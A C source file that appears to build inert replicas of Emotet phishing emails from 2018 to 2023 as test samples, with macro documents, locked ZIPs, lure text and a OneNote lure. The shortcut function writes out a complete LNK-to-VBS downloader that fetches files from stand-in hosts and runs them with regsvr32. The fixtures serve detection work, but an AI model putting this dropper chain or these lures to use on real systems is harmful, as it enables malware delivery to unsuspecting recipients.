/* Inert replicas of Emotet's mail by era, from published descriptions: reply chains with DOC (2019), locked ZIP with the
 * password in the text (2020), XLSM and locked projects (2021), hidden macro sheets, LNK and the Templates lure (2022), padded
 * DOC and OneNote (2023). What is attached comes from replica.h: hosts that no network resolves, programs that do not exist. */
#include <string.h>

#include "make/lnk.h"
#include "make/replica.h"
#include "make/samples.h"
#include "make/samples_letter.h"
#include "make/xls.h"
#include "make/zip.h"

#define WORD_MACRO_TYPE "application/vnd.ms-word.document.macroEnabled.12"
#define EXCEL_MACRO_TYPE "application/vnd.ms-excel.sheet.macroEnabled.12"

/* The first variant of an era, from seed on, whose file has that ending. */
static sk_bytes replica(sk_arena *a, const char *era, uint64_t seed, const char *ending)
{
    size_t n = 0;
    while (n < make_replica_era_count && strcmp(make_replica_eras[n].name, era) != 0) {
        n++;
    }
    for (uint64_t most = seed + 100; n < make_replica_era_count && seed < most; seed++) {
        make_replica r = make_replica_of(a, n, seed, MAKE_REPLICA_PLAIN);
        if (r.name && sk_ends_nocase(sk_bytes_str(r.name), sk_bytes_str(ending))) return r.bytes;
    }
    return (sk_bytes){NULL, 0};
}

/* --- 2018 to 2020 --- */

sk_bytes make_sample_reply_doc(sk_arena *a)
{
    make_letter l = {.from = "佐藤 花子 <office17@hacked-shop.example>",
                     .to = MAKE_TO_TANAKA,
                     .subject = "Re: お見積りのお願い",
                     .date = "Thu, 24 Oct 2019 08:14:33 +0900",
                     .id = "5719004310.20191023231433"};
    return make_letter_with(
        a, &l, make_utf8,
        "お世話になっております。\r\n\r\n添付をご確認ください。\r\n\r\n佐藤 花子\r\nsato@partner.example\r\n\r\n"
        "> 佐藤様\r\n>\r\n> お見積り金額は税別で\r\n> 38,000円となります。\r\n> ご検討をお願いいたします。\r\n>\r\n> 田中\r\n",
        "application/msword", "20191024_見積.doc", replica(a, "2019 doc, controls, WMI", 1, ".doc"));
}

sk_bytes make_sample_link_only(sk_arena *a)
{
    make_letter l = {.from = "John Smith <info@hacked-school.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "RE: RE: Invoice",
                     .date = "Tue, 20 Nov 2018 10:11:12 -0500",
                     .id = "20181120151112.77"};
    return make_letter_plain(
        a, &l, make_ascii, "Please confirm.\r\n\r\nhttp://hacked-shop.example/wp-content/INV-20181120.doc\r\n\r\nJohn Smith\r\n");
}

sk_bytes make_sample_locked_zip_doc(sk_arena *a)
{
    make_letter l = {.from = "株式会社サンプル <user@hacked-clinic.example>",
                     .to = MAKE_TO_TANAKA,
                     .subject = "請求書の件です。",
                     .date = "Wed, 2 Sep 2020 09:48:10 +0900",
                     .id = "83512.20200902004810"};
    sk_bytes doc = replica(a, "2020 red dawn", 1, ".doc");
    make_zip_entry entry = {.name = "20200902_invoice.doc", .data = doc, .method = 8, .password = "8813"};
    return make_letter_with(a, &l, make_jis,
                            "田中様\r\n\r\nお世話になっております。\r\n請求書をお送りいたします。\r\n\r\nファイル名: "
                            "請求書.zip\r\nパスワード: 8813\r\n\r\n以上、よろしくお願いいたします。\r\n",
                            "application/zip", "請求書.zip", make_zip(a, &entry, 1, NULL));
}

/* --- 2021 --- */

sk_bytes make_sample_docm_2021(sk_arena *a)
{
    make_letter l = {.from = "Jane Doe <mail@hacked-hotel.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Re: Contract draft",
                     .date = "Tue, 16 Nov 2021 14:20:00 +0100",
                     .id = "4410.20211116132000"};
    return make_letter_with(a, &l, make_ascii,
                            "Hello,\r\n\r\nplease see attached.\r\n\r\n> Hi John,\r\n> please find my changes in section 4 "
                            "below.\r\n> Regards, Jane\r\n",
                            WORD_MACRO_TYPE, "contract-1611.docm", replica(a, "2021 docm and xlsm, locked", 1, ".docm"));
}

sk_bytes make_sample_xlsm_2021(sk_arena *a)
{
    make_letter l = {.from = "John Smith <sales@hacked-garage.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Payment status",
                     .date = "Tue, 30 Nov 2021 11:00:00 +0000",
                     .id = "9101.20211130"};
    return make_letter_with(a, &l, make_ascii, "Please find the payment status attached.\r\n", EXCEL_MACRO_TYPE,
                            "payment_3011.xlsm", replica(a, "2021 xlm, mshta", 1, ".xlsm"));
}

sk_bytes make_sample_appinstaller(sk_arena *a)
{
    make_letter l = {.from = "Jane Doe <desk@hacked-library.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Report on a complaint",
                     .date = "Wed, 1 Dec 2021 09:31:00 +0000",
                     .id = "7.20211201"};
    make_mail m = make_letter_begin(a, &l, make_utf8_qp);
    make_letter_text(&m, "html", make_utf8_qp,
                     "<html><body><p>There is a complaint about you. Please look at the report.</p>"
                     "<p><a href=\"ms-appinstaller:?source=https://storage.example/none/nosuch.appinstaller\">Preview "
                     "PDF</a></p></body></html>\r\n");
    return make_mail_bytes(&m);
}

/* --- 2022 --- */

sk_bytes make_sample_xls_2022(sk_arena *a)
{
    make_letter l = {.from = "田中 一郎 <contact@hacked-florist.example>",
                     .to = "鈴木 次郎 <suzuki@company.example>",
                     .subject = "RE: 会議の資料",
                     .date = "Thu, 3 Mar 2022 10:22:00 +0900",
                     .id = "66120.20220303"};
    return make_letter_with(a, &l, make_utf8, "添付をご確認ください。\r\n\r\n田中 一郎\r\n", "application/vnd.ms-excel",
                            "資料_0303.xls", replica(a, "2022 xlm, download", 1, ".xls"));
}

sk_bytes make_sample_xlsb_2022(sk_arena *a)
{
    make_letter l = {.from = "Accounts <billing@hacked-farm.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Statement 0622",
                     .date = "Tue, 14 Jun 2022 08:00:00 +0000",
                     .id = "31.20220614"};
    return make_letter_with(a, &l, make_ascii, "Your statement is attached.\r\n",
                            "application/vnd.ms-excel.sheet.binary.macroEnabled.12", "statement.xlsb", replica(a, "TrickBot xlsb", 1, ".xlsb"));
}

/* A shortcut that cuts the script out of its own bytes and starts it; the script stands behind its end. */
static sk_bytes shortcut(sk_arena *a)
{
    return make_lnk_file(a, &(make_lnk){
        .environment = "%ComSpec%", .icon = "%SystemRoot%\\System32\\shell32.dll",
        .arguments = "/v:on /c findstr \"nosuchmark.*\" \"Statement.lnk\" > \"%tmp%\\nosuch.vbs\" & \"%tmp%\\nosuch.vbs\"",
        .overlay = SK_LIT("\r\nnosuchmark = 1: Set q = CreateObject(\"MSXML2.XMLHTTP\"): For Each u In Array(\"http://hacked-gym.example/nosuch/a\", "
                          "\"http://hacked-farm.example/nosuch/b\"): q.Open \"GET\", u, False: q.Send: If q.Status = 200 Then: Set s = "
                          "CreateObject(\"ADODB.Stream\"): s.Type = 1: s.Open: s.Write q.ResponseBody: s.SaveToFile \"nosuch.ocx\", 2: "
                          "CreateObject(\"WScript.Shell\").Run \"regsvr32.exe /s nosuch.ocx\": End If: Next\r\n")});
}

sk_bytes make_sample_lnk_2022(sk_arena *a)
{
    make_letter l = {.from = "Accounts <office@hacked-gym.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Re: Salary",
                     .date = "Mon, 25 Apr 2022 07:30:00 +0000",
                     .id = "52.20220425"};
    make_zip_entry entry = {.name = "Statement.lnk", .data = shortcut(a), .method = 8, .password = "GG28"};
    return make_letter_with(a, &l, make_ascii, "Please open the attached file.\r\n\r\nZip password: GG28\r\n", "application/zip",
                            "Statement.zip", make_zip(a, &entry, 1, NULL));
}

sk_bytes make_sample_templates_2022(sk_arena *a)
{
    make_letter l = {.from = "Accounts <info@hacked-bakery.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Re: Scan 0211",
                     .date = "Wed, 2 Nov 2022 09:00:00 +0000",
                     .id = "18.20221102"};
    make_tokens run = make_tokens_new(a, SK_PTG_BIFF8), open = run;
    make_ptg_string(&run, "no-such-library");
    make_ptg_string(&run, "NoSuchFunction");
    make_ptg_string(&run, "http://download.example/inert.txt");
    make_ptg_call(&run, "CALL", 3);
    make_ptg_ref_sheet(&open, 1, 0, 0);
    make_xls_cell lure[] = {
        {.row = 1,
         .text = "RELAUNCH REQUIRED. In accordance with your security policy, copy the file to the following folder and run it "
                 "again:"},
        {.row = 3, .text = "for Office 2013 x64 and earlier: C:\\Program Files\\Microsoft Office\\Templates"},
        {.row = 4, .text = "for Office 2016 x64 and later: C:\\Program Files\\Microsoft Office\\root\\Templates"}};
    make_xls_cell macro[] = {{.tokens = make_tokens_view(&run)}};
    make_xls_sheet sheets[] = {{.name = "Sheet1", .cells = lure, .cell_count = SK_COUNT(lure)},
                               {.name = "Gheb", .type = 1, .state = 2, .cells = macro, .cell_count = 1}};
    make_xls_name names[] = {{.builtin = 1, .hidden = true, .tokens = make_tokens_view(&open)}};
    return make_letter_with(a, &l, make_ascii, "See the scan.\r\n", "application/vnd.ms-excel", "Scan-0211.xls",
                            make_xls_file(a, &(make_xls){.sheets = sheets, .sheet_count = 2, .names = names, .name_count = 1}));
}

/* --- 2023 --- */

#define PADDING ((size_t)24 << 20)

sk_bytes make_sample_padded_2023(sk_arena *a)
{
    make_letter l = {.from = "Accounts <post@hacked-museum.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Invoice 0703",
                     .date = "Tue, 7 Mar 2023 12:00:00 +0000",
                     .id = "90.20230307"};
    sk_buf b = sk_buf_new(a, PADDING + (1 << 20));
    sk_buf_bytes(&b, replica(a, "2023 padded doc", 1, ".doc"));
    make_zeros(&b, PADDING);
    make_zip_entry entry = {.name = "INVOICE-0703.doc", .data = sk_buf_view(&b), .method = 8};
    return make_letter_with(a, &l, make_ascii, "Please find the invoice attached.\r\n", "application/zip", "INVOICE-0703.zip",
                            make_zip(a, &entry, 1, NULL));
}

/* The header of a OneNote section (MS-ONESTORE 2.3.1) and text where files would be. */
sk_bytes make_sample_onenote_2023(sk_arena *a)
{
    make_letter l = {.from = "John Smith <team@hacked-theatre.example>",
                     .to = MAKE_TO_JANE,
                     .subject = "Re: Minutes",
                     .date = "Thu, 16 Mar 2023 10:00:00 +0000",
                     .id = "11.20230316"};
    sk_buf b = sk_buf_new(a, 8192);
    sk_buf_bytes(&b, SK_LIT("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3"));
    make_zeros(&b, 1008);
    sk_buf_str(&b, "This page is protected. Double click View to see it.");
    return make_letter_with(a, &l, make_ascii, "Please look at the minutes.\r\n", "application/onenote", "minutes.one",
                            sk_buf_view(&b));
}
